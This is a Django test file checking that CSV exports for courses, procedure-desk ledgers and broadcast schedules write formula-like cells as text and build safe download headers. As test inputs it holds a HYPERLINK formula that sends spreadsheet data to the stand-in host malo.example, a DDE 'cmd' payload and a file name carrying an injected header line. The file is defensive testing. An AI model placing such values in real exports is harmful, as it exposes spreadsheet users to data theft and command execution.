"""Every CSV export, read back with the csv module: a cell a spreadsheet would run as a formula
(a student, citizen, office or presenter named `=HYPERLINK(...)`) comes out as text, amounts stay
numbers, and a download name carrying a user's text (quotes, `;`, line breaks, ñ) reaches the
browser intact in a header Django built."""

import ast
import csv
import io
import os
import uuid
from decimal import Decimal
from email.message import Message
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import timezone

from core.csv import csv_writer
from tramites_bridge.models import Cabina, CabinaAgent, Office, Procedure, Submission
from tramites_bridge.tests.factories import ProcedureFactory, citizen_fields, pdf_upload

ROOT = Path(__file__).resolve().parent.parent
SKIPPED = {"tests", "var", "media", "staticfiles", "node_modules", "__pycache__"}
HYPERLINK = '=HYPERLINK("http://malo.example/robar?d="&A1,"Ver detalle")'
TRICKY_NAME = 'Cabina "El Ñandú"; Jr. Álamos\r\nX-Inyectado: sí'


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _download_name(header: str) -> str:
    """The file name a browser saves, parsed from the header by the standard library."""
    message = Message()
    message["Content-Disposition"] = header
    return message.get_filename()


def _assert_header_is_safe(response, expected_name: str) -> None:
    header = response["Content-Disposition"]
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert header.startswith("attachment")
    assert _download_name(header) == expected_name


# --- the cell rule --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+51 976543210", "'+51 976543210"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("-3", "'-3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("María Quispe", "María Quispe"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (Decimal("-4.00"), "-4.00"),
        (-1.5, "-1.5"),
        (True, "True"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, written):
    out = io.StringIO()
    csv_writer(out).writerow(["x", value])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["x", written]]


def test_no_module_writes_csv_around_the_guard():
    """Every export goes through core.csv: nothing else calls csv.writer or csv.DictWriter."""
    offenders = []
    for folder, subfolders, files in os.walk(ROOT):
        subfolders[:] = [d for d in subfolders if not d.startswith(".") and d not in SKIPPED]
        for name in files:
            path = Path(folder, name)
            if name.endswith(".py") and path != ROOT / "core" / "csv.py":
                offenders += _csv_writer_calls(path)
    assert offenders == []


def _csv_writer_calls(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
            and node.attr in {"writer", "DictWriter"}
        ):
            found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    return found


# --- the coaches' progress export -----------------------------------------------------------------
@pytest.mark.django_db
def test_the_coach_export_writes_a_formula_named_student_as_text(client_for, users):
    from lms.services import ProgressEventIn, progress_events_record
    from lms.tests.factories import (
        course_coach_add,
        course_create,
        lesson_create,
        student_create,
        unit_create,
    )

    course = course_create()
    course_coach_add(course=course, user=users["coach"])
    lesson = lesson_create(unit=unit_create(course=course), episode=1, code="UNO01")
    student = student_create(
        dni="41234567", course=course, first_names=HYPERLINK, last_names="@Cueva", district="-1"
    )
    progress_events_record(
        student=student,
        events=[
            ProgressEventIn(
                id=uuid.uuid4(),
                lesson=lesson.pk,
                type="position",
                at=timezone.now(),
                position_seconds=50.0,
                duration_seconds=100.0,
            )
        ],
    )
    response = client_for("coach").get("/admin/seguimiento/avance.csv", {"curso": course.pk})
    assert response.status_code == 200
    header, row = _rows(b"".join(response.streaming_content))
    cells = dict(zip(header, row, strict=True))
    assert cells["nombres"] == "'" + HYPERLINK
    assert cells["apellidos"] == "'@Cueva"
    assert cells["distrito"] == "'-1"
    assert cells["porcentaje_visto"] == "50"


@pytest.mark.django_db
def test_the_coach_export_names_the_file_after_a_course_with_accents(client_for, users):
    from lms.tests.factories import course_coach_add, course_create

    course = course_create(slug="álgebra-ñandú", title="Álgebra del ñandú")
    course_coach_add(course=course, user=users["coach"])
    response = client_for("coach").get("/admin/seguimiento/avance.csv", {"curso": course.pk})
    assert response.status_code == 200
    stamp = timezone.localdate().isoformat()
    _assert_header_is_safe(response, f"avance-álgebra-ñandú-{stamp}.csv")


# --- the cabina desk's ledger ---------------------------------------------------------------------
@pytest.fixture
def cabina_with_a_reversal(api_client_for, client_for, make_user):
    """A cabina whose agent submitted one procedure, then annulled by the back office: a credit and
    a reversal. The procedure's code reached the table without the model's checks (an old
    import), as a formula."""
    cabina = Cabina.objects.create(name="Cabina Ñandú", address="Jr. Prueba 1", ruc="10401234569")
    agent = make_user("cabina_agent", username="agente-csv")
    CabinaAgent.objects.create(cabina=cabina, user=agent)
    procedure = ProcedureFactory(tupa_code="LF-01")
    data = {"procedure": "LF-01", **citizen_fields(), "declaracion": pdf_upload()}
    response = api_client_for("cabina_agent", agent).post(
        "/api/v1/tramites/submissions", data, HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4())
    )
    assert response.status_code == 201, response.content
    submission = Submission.objects.get(code=response.json()["code"])
    client_for("back_office").post(
        f"/admin/tramites/bandeja/{submission.pk}/",
        {"action": "status", "status": "anulado", "note": "Improcedente."},
    )
    Procedure.objects.filter(pk=procedure.pk).update(tupa_code=HYPERLINK[:20])
    return cabina, agent


@pytest.mark.django_db
def test_the_desk_ledger_export_guards_cells_and_keeps_amounts_numbers(
    client_for, cabina_with_a_reversal
):
    _, agent = cabina_with_a_reversal
    response = client_for("cabina_agent", agent).get("/cabina/cuenta/", {"formato": "csv"})
    assert response.status_code == 200
    rows = _rows(response.content)
    assert rows[0] == ["fecha", "tipo", "codigo", "procedimiento", "monto_soles"]
    assert [row[3] for row in rows[1:3]] == ["'" + HYPERLINK[:20]] * 2
    assert [row[4] for row in rows[1:3]] == ["4.00", "-4.00"]
    assert rows[-2] == ["reversiones", "1", "", "", "-4.00"]


@pytest.mark.django_db
def test_the_desk_ledger_export_names_the_file_after_the_cabina_safely(
    client_for, cabina_with_a_reversal
):
    cabina, agent = cabina_with_a_reversal
    Cabina.objects.filter(pk=cabina.pk).update(name=TRICKY_NAME)
    response = client_for("cabina_agent", agent).get("/cabina/cuenta/", {"formato": "csv"})
    assert response.status_code == 200
    today = timezone.localdate()
    _assert_header_is_safe(
        response, f"liquidacion-{today.year}-{today.month:02d}-{TRICKY_NAME[:40]}.csv"
    )


# --- the back office: settlements and statistics --------------------------------------------------
@pytest.mark.django_db
def test_the_settlements_export_writes_a_formula_named_cabina_as_text(
    client_for, cabina_with_a_reversal
):
    cabina, _ = cabina_with_a_reversal
    Cabina.objects.filter(pk=cabina.pk).update(name=HYPERLINK)
    response = client_for("back_office").get("/admin/tramites/liquidaciones/", {"formato": "csv"})
    assert response.status_code == 200
    today = timezone.localdate()
    _assert_header_is_safe(response, f"liquidaciones-{today.year}-{today.month:02d}.csv")
    header, *rows = _rows(response.content)
    cells = dict(zip(header, rows[0], strict=True))
    assert cells["cabina"] == "'" + HYPERLINK
    assert cells["reversiones_soles"] == "-4.00"
    assert cells["total_a_pagar_soles"] == "0.00"


@pytest.mark.django_db
def test_the_statistics_export_writes_a_formula_named_office_as_text(client, client_for):
    office = Office.objects.create(name=HYPERLINK)
    procedure = ProcedureFactory(tupa_code="LF-01", office=office)
    data = {"procedure": procedure.tupa_code, **citizen_fields(), "declaracion": pdf_upload()}
    response = client.post(
        "/api/v1/tramites/submissions", data, HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4())
    )
    assert response.status_code == 201, response.content
    response = client_for("back_office").get("/admin/tramites/estadisticas/", {"formato": "csv"})
    assert response.status_code == 200
    _assert_header_is_safe(response, f"estadisticas-tramites-{timezone.localdate():%Y-%m-%d}.csv")
    offices = [row[1] for row in _rows(response.content) if row[0] == "oficina"]
    assert offices == ["'" + HYPERLINK]


# --- the broadcast rundown (page and command) -----------------------------------------------------
@pytest.fixture
def formula_rundown(make_user):
    from broadcast.tests.factories import (
        build_course,
        episode_on,
        install_programme,
        next_week,
        premiere_on,
    )

    install_programme()
    lesson = build_course(1)[0]
    lesson.title = "\t" + HYPERLINK  # a spreadsheet skips the tab, then runs the formula
    lesson.save_revision().publish()
    presenter = make_user("presenter", first_name="@Rosa", last_name="Cueva")
    episode_on(lesson, premiere_on(next_week(2)), [presenter])
    return next_week(0), next_week(6)


def _rundown_cells(content: bytes) -> list[dict]:
    header, *rows = _rows(content)
    return [dict(zip(header, row, strict=True)) for row in rows if row[4]]


@pytest.mark.django_db
def test_the_rundown_writes_a_formula_titled_episode_as_text(client, formula_rundown):
    start, end = formula_rundown
    response = client.get("/broadcast/feeds/rundown.csv", {"from": start, "to": end})
    assert response.status_code == 200
    _assert_header_is_safe(response, f"programacion-{start:%Y%m%d}.csv")
    airings = _rundown_cells(response.content)
    assert airings  # the premiere and its Saturday repeat
    assert {a["título"] for a in airings} == {"'\t" + HYPERLINK}
    assert {a["conductoras"] for a in airings} == {"'@Rosa Cueva"}


@pytest.mark.django_db
def test_the_rundown_command_writes_the_same_guarded_cells(formula_rundown, tmp_path):
    start, end = formula_rundown
    target = tmp_path / "programacion.csv"
    call_command(
        "export_schedule", "--format", "csv", "--from", str(start), "--to", str(end),
        "-o", str(target),
    )  # fmt: skip
    airings = _rundown_cells(target.read_bytes())
    assert airings
    assert {a["título"] for a in airings} == {"'\t" + HYPERLINK}
